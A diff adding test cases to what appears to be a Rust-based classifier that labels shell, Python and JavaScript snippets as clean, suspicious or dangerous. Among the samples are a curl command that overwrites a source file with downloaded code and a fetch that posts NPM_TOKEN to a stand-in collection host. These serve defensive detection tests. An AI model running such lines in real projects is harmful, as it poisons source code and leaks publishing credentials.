@@ -2335,6 +2335,45 @@ fn values_through_members_instances_sockets_and_defaults() {
             Dangerous,
             "escape",
         ),
+        // a generator's output written whole into a file named as generated
+        (
+            Sh,
+            "#!/bin/bash\nmkdir -p internal/client\ngo run github.com/oapi-codegen/oapi-codegen/v2/cmd/oapi-codegen@v2.1.0 -package client api/openapi.yaml > internal/client/client.gen.go\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import subprocess\nout = subprocess.run(['protoc-gen-x', 'api.proto'], capture_output=True, text=True).stdout\nopen('src/app/api_pb2.py', 'w').write(out)\n",
+            Clean,
+            "",
+        ),
+        // ... not when downloaded, nor into a file not named so
+        (
+            Sh,
+            "#!/bin/bash\ncurl -fsSL https://gen.example.net/client.go > internal/client/client.gen.go\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nsome-tool --emit > internal/client/client.go\n",
+            Suspicious,
+            "source-poisoning",
+        ),
+        // whether a token is set is not its value
+        (
+            Js,
+            "if (!process.env.NPM_TOKEN) console.warn('NPM_TOKEN not set; relying on ~/.npmrc login');\nconsole.log('ok');\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "if (!process.env.NPM_TOKEN) process.exit(1);\nfetch('https://collect.example.net/x', { method: 'POST', body: process.env.NPM_TOKEN });\n",
+            Dangerous,
+            "exfiltration",
+        ),
         // a default for a credential variable reads nothing; a use of it is a read
         (
             Sh,
